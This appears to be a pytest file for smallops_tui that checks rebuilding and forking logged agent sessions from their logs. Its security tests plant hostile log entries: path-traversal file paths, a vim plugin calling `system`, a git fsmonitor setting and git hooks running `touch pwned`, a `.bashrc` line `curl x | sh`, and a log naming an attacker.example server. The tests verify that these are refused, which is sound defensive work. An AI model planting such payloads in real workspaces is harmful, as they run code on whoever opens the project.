"""Forking a logged session: the workspace rebuilt from the log alone, byte for byte, and the
conversation as the model saw it, checked against the original run at every step (the three
fixture sessions, run live by the script that made fixtures/sessions/); then a fork run live."""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path
from typing import Any

import pytest

from smallops_tui.agent import ScriptedPolicy, Session, SessionConfig, Workspace
from smallops_tui.agent.log.reader import read_log
from smallops_tui.transcript import export_markdown
from smallops_tui.agent.history.fork import ForkError, check_step, conversation_at, has_workspace_record, rebuild_workspace
from smallops_tui.agent.history.replay import Replay
from smallops_tui.agent.files.workspace import SKIPPED_DIRS
from smallops_tui.backends import OllamaBackend
from smallops_tui.cli import main
from smallops_tui.forking import prepare_fork
from smallops_tui.ui.screens.live import LiveScreen
from smallops_tui.ui.widgets.status import StatusBar

from .. import make_session_fixtures
from ..acceptance.terminal import run_in_terminal
from ..conftest import SESSIONS, WORKSPACE_FILES
from ..make_session_fixtures import SESSIONS as SCRIPTS, record
from ..replay_server import ReplayServer
from ..streams import turn
from ..waiting import wait_for
from ..apps import live_app, replay_app
from smallops_tui.agent.log.events import FilesChanged
from ..typed import live_screen, of, panes_of, replay_screen

CHAT = "/api/chat"


def files_of(root: Path) -> dict[str, tuple[bytes | str, int]]:
    """Every file under `root` (the tool caches a snapshot skips aside): its bytes (a symlink's
    target) and its mode."""
    found: dict[str, tuple[bytes | str, int]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIPPED_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            st = os.lstat(path)
            content = os.readlink(path) if stat.S_ISLNK(st.st_mode) else path.read_bytes()
            found[rel] = (content, stat.S_IMODE(st.st_mode))
    return found


class SnapshottingScreen(LiveScreen):
    """The live app, keeping the workspace's files and the session's messages at the end of
    every step (just before the next starts, and at the end)."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.files_at: dict[int, dict[str, tuple[bytes | str, int]]] = {}
        self.messages_at: dict[int, list[dict[str, str]]] = {}
        self._step = 0

    def _keep(self, step: int) -> None:
        self.files_at[step] = files_of(self.workspace.root)
        assert self.session is not None
        self.messages_at[step] = [dict(m) for m in self.session.messages]

    def on_session_event(self, event: Any) -> None:
        if event.type in ("workspace_recorded",):
            self._keep(0)
        if event.type == "turn_started" and event.step != self._step:
            self._keep(self._step)
            self._step = event.step
        super().on_session_event(event)
        if event.type == "session_ended":
            self._keep(event.step)


@pytest.mark.parametrize("name", sorted(SCRIPTS))
async def test_a_fork_rebuilds_every_step_byte_for_byte_from_the_log_alone(name: str, tmp_path: Path,
                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    # A workspace of this test's own: /tmp/smallops-fixture-workspace is shared by whoever runs the fixtures.
    monkeypatch.setattr(make_session_fixtures, "ROOT", tmp_path / "original")
    task, script = SCRIPTS[name]
    log = tmp_path / f"{name}.jsonl"
    live = await record(name, task, script, log, screen_class=SnapshottingScreen)
    assert isinstance(live, SnapshottingScreen)
    replay = Replay.load(log)
    middle = len(replay.steps) // 2
    checked = []
    for k in range(len(replay.steps) + 1):
        try:
            check_step(replay, k)
        except ForkError:
            continue
        # The original workspace is not consulted: the log alone rebuilds it.
        rebuilt = rebuild_workspace(replay, k, tmp_path / f"fork-{k}", original=tmp_path / "gone")
        assert rebuilt.from_original == []
        assert files_of(rebuilt.root) == live.files_at[k], f"{name}: the workspace after step {k} differs"
        messages, notes = conversation_at(replay, k)
        assert messages == live.messages_at[k] and notes == [], f"{name}: the conversation after step {k} differs"
        checked.append(k)
    assert middle in checked
    # Not vacuous: in two of the sessions the files did change along the way.
    if name != "every-failure-mode":
        assert any(live.files_at[k] != live.files_at[0] for k in checked)


def test_the_committed_fixtures_record_their_workspace_and_rebuild_it_at_the_middle(tmp_path: Path) -> None:
    for log in sorted(SESSIONS.glob("*.jsonl")):
        replay = Replay.load(log)
        assert has_workspace_record(replay), log.name
        middle = len(replay.steps) // 2
        rebuilt = rebuild_workspace(replay, middle, tmp_path / log.stem, original=tmp_path / "gone")
        assert {rel for rel in files_of(rebuilt.root)} >= set(WORKSPACE_FILES) - {"build/out.o"}


async def test_a_command_s_changes_are_recorded_and_a_fork_past_an_unkept_file_is_refused(workspace, tmp_path) -> None:
    big = "x" * (600 * 1024)  # over recording.FILE_LIMIT: kept by fingerprint only
    turns = [turn({"action": "run_command", "command": "printf 'made\\n' > made.txt && rm notes.txt && "
                   "mkdir -p deep/er && printf 'in\\n' > deep/er/f.txt && chmod +x deep/er/f.txt"}),
             turn({"action": "run_command", "command": f"python3 -c \"open('big.txt','w').write('{big[:10]}' * {len(big) // 10})\""}),
             turn({"action": "done", "summary": "made files"})]
    log = tmp_path / "log.jsonl"
    async with ReplayServer({CHAT: turns}) as server:
        async with OllamaBackend(server.url, "test") as backend:
            session = Session(backend, workspace, SessionConfig(task="t", sandbox="off"), ScriptedPolicy("approve-all"), log)
            await session.run()
    changes = of(read_log(log).events, FilesChanged)
    assert [(e.step, e.by) for e in changes] == [(1, "command"), (2, "command")]
    assert {(f.path, f.kind) for f in changes[0].files} == {("made.txt", "file"), ("notes.txt", "deleted"),
                                                            ("deep/er/f.txt", "file")}
    assert changes[1].files[0].path == "big.txt" and not changes[1].files[0].kept
    replay = Replay.load(log)
    after_1 = rebuild_workspace(replay, 1, tmp_path / "one", original=tmp_path / "gone")
    got = files_of(after_1.root)
    assert got["made.txt"] == (b"made\n", got["made.txt"][1]) and "notes.txt" not in got
    assert got["deep/er/f.txt"][1] == 0o644  # the mode too, but a log never makes a file executable
    assert after_1.not_executable == ["deep/er/f.txt"] and "without their executable bit" in after_1.notes[0]
    # After step 2, big.txt is only a fingerprint: taken from the original while it still matches...
    rebuilt = rebuild_workspace(replay, 2, tmp_path / "two")
    assert rebuilt.from_original == ["big.txt"]
    assert (tmp_path / "two" / "big.txt").read_bytes() == (workspace.root / "big.txt").read_bytes()
    # ...and refused, with a sentence naming it, once it does not.
    (workspace.root / "big.txt").write_text("changed since")
    with pytest.raises(ForkError, match=r"big\.txt \(614,400 bytes\) by fingerprint only"):
        rebuild_workspace(replay, 2, tmp_path / "three")
    assert not (tmp_path / "three").exists()


def _old_log(tmp_path: Path) -> Path:
    """A fixture as an older smallops wrote it: no workspace record, no opening prompt."""
    lines = (SESSIONS / "fix-add-clean.jsonl").read_text().splitlines()
    header = json.loads(lines[0])
    header.pop("opening")
    kept = [json.dumps(header)] + [line for line in lines[1:] if '"type":"workspace_recorded"' not in line
                                   and '"type":"files_changed"' not in line]
    old = tmp_path / "old.jsonl"
    old.write_text("\n".join(kept) + "\n")
    return old


@pytest.mark.parametrize("argv, says", [
    (["--step", "9"], "has steps 1 to 4; there is no step 9"),
    (["--step", "4"], "step 4 ended the session (done)"),
    ([], "which step? --from needs --step K"),
    (["--step", "1", "another task"], "drop the TASK argument"),
])
def test_run_from_a_log_refuses_what_cannot_be_forked_in_a_sentence(argv: list[str], says: str, capsys) -> None:
    log = str(SESSIONS / "fix-add-clean.jsonl")
    args = ["run", "--from", log, *[a for a in argv if a != "another task"]]
    if "another task" in argv:
        args.insert(1, "another task")
    assert main(args) == 2
    err = capsys.readouterr().err
    assert says in err and "Traceback" not in err and err.count("\n") == 1


def test_run_from_an_old_log_says_what_it_cannot_rebuild(tmp_path: Path, capsys) -> None:
    assert main(["run", "--from", str(_old_log(tmp_path)), "--step", "2"]) == 2
    assert "no record of its workspace (an older smallops wrote it)" in capsys.readouterr().err
    messages, notes = conversation_at(Replay.load(_old_log(tmp_path)), 2)
    assert len(messages) == 6 and "does not record the opening prompt" in notes[0]


def test_step_without_from_is_refused(capsys) -> None:
    assert main(["run", "--step", "2"]) == 2
    assert "--step goes with --from LOG" in capsys.readouterr().err


def test_run_from_with_a_server_that_is_gone_leaves_nothing_behind(tmp_path: Path) -> None:
    dest = tmp_path / "fork"
    # In a terminal: without one, `run` refuses before it looks for a server (test_no_terminal.py).
    code, screen = run_in_terminal([sys.executable, "-m", "smallops_tui.cli", "run", "--from",
                                    str(SESSIONS / "fix-add-clean.jsonl"), "--step", "2", "--workspace", str(dest),
                                    "--backend", "ollama", "--url", "http://127.0.0.1:9", "--model", "m"],
                                   dict(os.environ), tmp_path)
    assert code == 1 and "Traceback" not in screen and "no Ollama at http://127.0.0.1:9" in screen
    assert not dest.exists()  # the copy is made only once the backend is ready


async def test_a_fork_goes_on_live_with_the_carried_conversation_and_says_where_it_came_from(tmp_path: Path) -> None:
    source = Replay.load(SESSIONS / "fix-add-clean.jsonl")
    fork = prepare_fork(source, 2, tmp_path / "fork", model="other-model")
    assert (fork.workspace / "main.py").read_text().endswith("print(add(2, 3))\n")
    assert "return a + b" in (fork.workspace / "main.py").read_text()  # step 2 wrote the fix
    log = tmp_path / "fork.jsonl"
    turns = [turn({"action": "done", "summary": "the fix was already there"})]
    async with ReplayServer({CHAT: turns}) as server:
        async with OllamaBackend(server.url, "other-model") as backend:
            config = SessionConfig(task=source.header.task, step_cap=fork.step + 5)
            app = live_app(backend, Workspace(fork.workspace), config, backend_label="ollama", log_path=log,
                              resume=fork.resume, forked_from=fork.forked_from)
            async with app.run_test(size=(120, 40)) as pilot:
                await wait_for(pilot, lambda: live_screen(app).awaiting_decision and live_screen(app).armed, "the first new proposal")
                sent = server.requests[0].json()["messages"]
                conversation = "\n".join(panes_of(app).conversation_texts())
                await pilot.press("y")
                await wait_for(pilot, lambda: app.outcome is not None, "the end")
                await pilot.pause()
                final_conversation = panes_of(app).conversation_texts()
    # The model was sent the first two turns as they were, and nothing else.
    assert sent == conversation_at(source, 2)[0] and len(sent) == 6
    assert "step 1" in conversation and "step 3" in conversation
    assert "forked from fix-add-clean.jsonl at step 2 (model qwen2.5-coder:1.5b); continuing with other-model" in conversation
    replay = Replay.load(log)
    assert (forked := replay.header.forked_from) is not None and forked["step"] == 2 \
        and forked["model"] == "qwen2.5-coder:1.5b"
    assert [s.number for s in replay.steps] == [1, 2, 3] and replay.outcome == "done"
    # The net change counts from the original's start: step 2's fix is in it, and `done` is not flagged.
    ended = replay.ended
    assert ended is not None and ended.modified == ["main.py"] and "+    return a + b" in ended.diff
    assert (last_proposal := replay.steps[-1].proposal) is not None
    assert "done_without_change" not in {f.kind for f in last_proposal.flags}
    # The replay of the fork's log is the screen the person saw.
    replayed = replay_app(replay)
    async with replayed.run_test(size=(120, 40)) as pilot:
        replay_screen(replayed).goto(len(replay.steps))
        await pilot.pause()
        assert panes_of(replayed).conversation_texts() == final_conversation
        status = replayed.query_one(StatusBar)  # what it has to say (at 120 columns the fork gives way)
        assert "fork of fix-add-clean.jsonl at step 2 (qwen2.5-coder:1.5b)" in status.fields["backend"][0]
        assert "forked from" in panes_of(replayed).conversation_texts()[2]
    assert "- fork of fix-add-clean.jsonl at step 2 (qwen2.5-coder:1.5b)" in export_markdown(replay)
    # The fork's log can be forked in turn: it carries the record of the workspace and its changes.
    again = rebuild_workspace(replay, 2, tmp_path / "again", original=tmp_path / "gone")
    assert files_of(again.root) == files_of(fork.workspace)


def test_sessions_lists_a_fork_with_its_origin(tmp_path: Path, capsys) -> None:
    lines = (SESSIONS / "fix-add-clean.jsonl").read_text().splitlines()
    header = json.loads(lines[0])
    header["forked_from"] = {"log": "/x/every-failure-mode.jsonl", "step": 3, "model": "qwen3:1.7b", "backend": "ollama"}
    (tmp_path / "a.jsonl").write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n")
    assert main(["sessions", "--dir", str(tmp_path)]) == 0
    assert "fork of every-failure-mode.jsonl at step 3 (qwen3:1.7b)" in capsys.readouterr().out



async def test_f_in_replay_forks_after_the_step_shown_or_says_why_not(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    from textual.widgets import Input

    from smallops_tui.ui.screens.fork_dialog import ForkScreen
    from smallops_tui.ui.screens.replay import ForkChosen, ForkRequest

    log = SESSIONS / "fix-add-clean.jsonl"
    replay = Replay.load(log)
    app = replay_app(replay)
    asked: list[ForkRequest] = []  # what the app is asked to fork (the fork itself: test_fork_in_one_app.py)

    def start_fork(chosen: ForkChosen) -> None:
        asked.append(chosen.request)

    monkeypatch.setattr(app, "start_fork", start_fork)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        replay_screen(app).goto(4)  # the step that ended the session: nothing to go on after
        await pilot.press("f")
        await pilot.pause()
        assert not isinstance(app.screen, ForkScreen)
        assert any("step 4 ended the session (done)" in str(n.message) for n in app._notifications)
        replay_screen(app).goto(2)
        await pilot.press("f")
        await wait_for(pilot, lambda: isinstance(app.screen, ForkScreen), "the fork's choices")
        await pilot.press("escape")  # back: nothing forked
        await wait_for(pilot, lambda: not isinstance(app.screen, ForkScreen), "the replay again")
        assert app.is_running
        await pilot.press("f")
        await wait_for(pilot, lambda: isinstance(app.screen, ForkScreen), "the fork's choices")
        screen = app.screen
        assert screen.query_one("#model", Input).value == "qwen2.5-coder:1.5b"  # the log's, offered first
        screen.query_one("#backend", Input).value = "lmstudio"
        await pilot.press("enter")
        await pilot.pause()
        assert app.is_running and "the backend is one of" in str(screen.query_one("#problem").render())
        screen.query_one("#backend", Input).value = "openai"
        screen.query_one("#url", Input).value = "http://127.0.0.1:8080"
        screen.query_one("#model", Input).value = "other-model"
        await pilot.press("enter")
        await wait_for(pilot, lambda: asked != [], "the fork asked of the app")
        assert app.is_running  # the same app goes on (no exit, no new process)
    assert asked == [ForkRequest(log, 2, "openai", "http://127.0.0.1:8080", "other-model")]
    old = replay_app(Replay.load(_old_log(tmp_path)))
    async with old.run_test(size=(120, 40)) as pilot:
        replay_screen(old).goto(2)
        await pilot.press("f")
        await pilot.pause()
        assert old.is_running and any("no record of its workspace" in str(n.message) for n in old._notifications)


async def test_a_fork_remembers_the_original_steps_for_its_guards(tmp_path: Path) -> None:
    source = Replay.load(SESSIONS / "every-failure-mode.jsonl")  # steps 4 and 5 ran a failing command
    fork = prepare_fork(source, 5, tmp_path / "fork")
    turns = [turn({"action": "run_command", "command": "python3 test_main.py"}),
             turn({"action": "done", "summary": "gave up"})]
    log = tmp_path / "fork.jsonl"
    async with ReplayServer({CHAT: turns}) as server:
        async with OllamaBackend(server.url, "test") as backend:
            session = Session(backend, Workspace(fork.workspace), SessionConfig(task=source.header.task, step_cap=9),
                              ScriptedPolicy("reject-all"), log, resume=fork.resume)
            await session.run()
    proposed = Replay.load(log).steps[5].proposal
    assert proposed is not None
    assert proposed.action["command"] == "python3 test_main.py"
    assert [(f.kind, f.step) for f in proposed.flags if f.kind == "repeat"] == [("repeat", 5)]


def test_a_hostile_log_cannot_make_a_rebuild_write_outside_its_directory(tmp_path: Path) -> None:
    from smallops_tui.agent.log.events import FileRecord, WorkspaceRecorded

    lines = (SESSIONS / "fix-add-clean.jsonl").read_text().splitlines()
    outside = tmp_path / "outside"
    outside.mkdir()
    for files, says in [
        ([FileRecord(path="../escape.txt", text="x")], "outside its workspace"),
        ([FileRecord(path="/tmp/abs.txt", text="x")], "outside its workspace"),
        # a link out, and a file "inside" it: the file is written first, as a real directory, and the link fails
        ([FileRecord(path="a", kind="symlink", link=str(outside)), FileRecord(path="a/planted.txt", text="x")],
         "cannot be rebuilt"),
    ]:
        record = WorkspaceRecorded(files=files).model_dump_json()
        log = tmp_path / "hostile.jsonl"
        log.write_text("\n".join([lines[0], record, *[l for l in lines[1:] if "workspace_recorded" not in l]]) + "\n")
        dest = tmp_path / "dest"
        with pytest.raises(ForkError, match=says):
            rebuild_workspace(Replay.load(log), 0, dest)
        assert not dest.exists() and list(outside.iterdir()) == [] and not (tmp_path / "escape.txt").exists()


def _log_with_files(tmp_path: Path, files: list, workspace: str | None = None) -> Path:
    """The fixture log with its record of the workspace replaced by `files` (and its header's
    workspace by `workspace`): a hostile log."""
    from smallops_tui.agent.log.events import WorkspaceRecorded

    lines = (SESSIONS / "fix-add-clean.jsonl").read_text().splitlines()
    header = json.loads(lines[0])
    if workspace is not None:
        header["workspace"] = workspace
    record = WorkspaceRecorded(files=files).model_dump_json()
    log = tmp_path / "hostile.jsonl"
    log.write_text("\n".join([json.dumps(header), record, *[l for l in lines[1:] if "workspace_recorded" not in l
                                                            and "files_changed" not in l]]) + "\n")
    return log


def test_a_fork_goes_to_a_fresh_directory_in_the_data_dir_never_beside_the_log_s_workspace(tmp_path: Path) -> None:
    """Issue 20: a log naming a workspace inside vim's plugin folder made the fork there, and vim loaded it."""
    from smallops_tui.agent.log.events import FileRecord
    from smallops_tui.paths import data_dir

    plugins = tmp_path / "home" / ".vim" / "pack" / "plugins" / "start"
    plugins.mkdir(parents=True)
    log = _log_with_files(tmp_path, [FileRecord(path="plugin/evil.vim", text="call system('touch pwned')\n")],
                          workspace=str(plugins / "proj"))
    fork = prepare_fork(Replay.load(log), 0)
    assert list(plugins.iterdir()) == []  # nothing was written beside the log's workspace
    assert fork.workspace.parent == data_dir() / "forks" and fork.workspace.name == "proj-fork-step0"
    assert (fork.workspace / "plugin" / "evil.vim").is_file()
    # A name from the log is only a name: no path, no control characters.
    log = _log_with_files(tmp_path, [FileRecord(path="a.txt", text="x\n")], workspace="/x/../\x1b]0;t\x07../..")
    assert prepare_fork(Replay.load(log), 0).workspace.parent == data_dir() / "forks"


def test_a_rebuild_never_writes_git_start_up_files_or_executable_bits_from_a_log(tmp_path: Path) -> None:
    from smallops_tui.agent.log.events import FileRecord

    files = [FileRecord(path=".git/config", text="[core]\n\tfsmonitor = touch ../pwned\n"),
             FileRecord(path=".git/hooks/pre-commit", text="#!/bin/sh\ntouch pwned\n", mode=0o755),
             FileRecord(path="vendor/lib.git/hooks/post-checkout", text="#!/bin/sh\n", mode=0o755),
             FileRecord(path="sub/HEAD", text="ref: refs/heads/main\n"),
             FileRecord(path="sub/hooks/pre-commit", text="#!/bin/sh\n", mode=0o755),
             FileRecord(path=".bashrc", text="curl x | sh\n"), FileRecord(path=".vscode/tasks.json", text="{}\n"),
             FileRecord(path="run.sh", text="#!/bin/sh\necho hi\n", mode=0o755),
             FileRecord(path="main.py", text="print(1)\n", mode=0o644)]
    rebuilt = rebuild_workspace(Replay.load(_log_with_files(tmp_path, files)), 0, tmp_path / "fork")
    written = files_of(rebuilt.root)
    assert set(written) == {"run.sh", "main.py"}, written
    assert written["run.sh"][1] == 0o644 and rebuilt.not_executable == ["run.sh"]
    assert set(rebuilt.left_out) == {".git/config", ".git/hooks/pre-commit", "vendor/lib.git/hooks/post-checkout",
                                     "sub/HEAD", "sub/hooks/pre-commit", ".bashrc", ".vscode/tasks.json"}
    assert "not written from the log" in rebuilt.notes[0] and "executable bit" in rebuilt.notes[1]


@pytest.mark.parametrize("planted", ["fifo", "device", "link to a device", "another size"])
def test_a_fingerprint_only_file_is_taken_only_from_a_regular_file_of_its_size(planted: str, tmp_path: Path) -> None:
    """Issue 20: a FIFO in the original workspace blocked rerun; /dev/zero ran to a MemoryError."""
    import threading

    from smallops_tui.agent.log.events import FileRecord

    original = tmp_path / "original"
    original.mkdir()
    name, size = "data.bin", 600 * 1024
    if planted == "fifo":
        os.mkfifo(original / name)
    elif planted == "device":
        original, name = Path("/dev"), "zero"
    elif planted == "link to a device":
        (original / name).symlink_to("/dev/zero")
    else:
        (original / name).write_bytes(b"\0" * (size + 1))
    digest = __import__("hashlib").sha256(b"\0" * size).hexdigest()
    log = _log_with_files(tmp_path, [FileRecord(path=name, size=size, digest=digest)], workspace=str(original))
    outcome: list[BaseException] = []

    def rebuild() -> None:
        try:
            rebuild_workspace(Replay.load(log), 0, tmp_path / "fork")
        except BaseException as exc:  # noqa: BLE001 - the test reports whatever it was
            outcome.append(exc)

    worker = threading.Thread(target=rebuild, daemon=True)
    worker.start()
    worker.join(120)  # a deadline, not a measurement: a rebuild that blocks on a FIFO never returns
    assert not worker.is_alive(), "the rebuild blocked on what the original workspace holds"
    assert len(outcome) == 1 and isinstance(outcome[0], ForkError), outcome
    assert f"{name} (614,400 bytes) by fingerprint only" in str(outcome[0])
    assert not (tmp_path / "fork").exists()


def test_a_rebuild_is_bounded_a_log_cannot_make_it_write_a_huge_blob(tmp_path: Path) -> None:
    """Issue 20: a 150 MB blob inline in a log became a 150 MB file. smallops never records more
    than FILE_LIMIT bytes of one file's content, so a log that holds more is refused, unwritten."""
    import base64

    from smallops_tui.agent.files.recording import FILE_LIMIT
    from smallops_tui.agent.log.events import FileRecord

    blob = base64.b64encode(b"\0" * (FILE_LIMIT * 4)).decode()
    for blob_record in (FileRecord(path="blob.bin", size=FILE_LIMIT * 4, b64=blob),
                        FileRecord(path="blob.txt", size=FILE_LIMIT * 4, text="x" * (FILE_LIMIT * 4))):
        with pytest.raises(ForkError, match="more than smallops ever records of one file"):
            rebuild_workspace(Replay.load(_log_with_files(tmp_path, [FileRecord(path="a.txt", text="a\n"), blob_record])),
                              0, tmp_path / "fork")
        assert not (tmp_path / "fork").exists()


def test_a_fork_takes_its_server_from_the_person_never_from_the_log(tmp_path: Path, monkeypatch) -> None:
    """`run --from` and `f` in replay: a log may name any server; the fork talks to the person's."""
    import argparse

    from smallops_tui.cli.replay import fork_defaults
    from smallops_tui.cli.run import setting_overrides
    from smallops_tui.config import load_settings

    lines = (SESSIONS / "fix-add-clean.jsonl").read_text().splitlines()
    header = json.loads(lines[0])
    header.update(backend="openai", url="http://attacker.example:8080")
    log = tmp_path / "theirs.jsonl"
    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n")
    replay = Replay.load(log)
    none = argparse.Namespace(backend=None, url=None, model=None)
    offered = fork_defaults(replay, none)
    assert (offered.backend, offered.url, offered.model) == ("auto", "", "qwen2.5-coder:1.5b")
    monkeypatch.setenv("SMALLOPS_URL", "http://127.0.0.1:11434")
    assert fork_defaults(replay, none).url == "http://127.0.0.1:11434"
    run_args = argparse.Namespace(backend=None, url=None, model=None, step_cap=None, theme=None, workspace=None,
                                  vocabulary=None, sandbox=None, think_budget=None, context=None, context_rule=None,
                                  keep_turns=None, approval=None, levers=None, no_constrained=False, allow_network=False,
                                  limit=None)
    settings = load_settings(setting_overrides(run_args, replay))
    assert settings.url == "http://127.0.0.1:11434" and settings.backend == "auto"
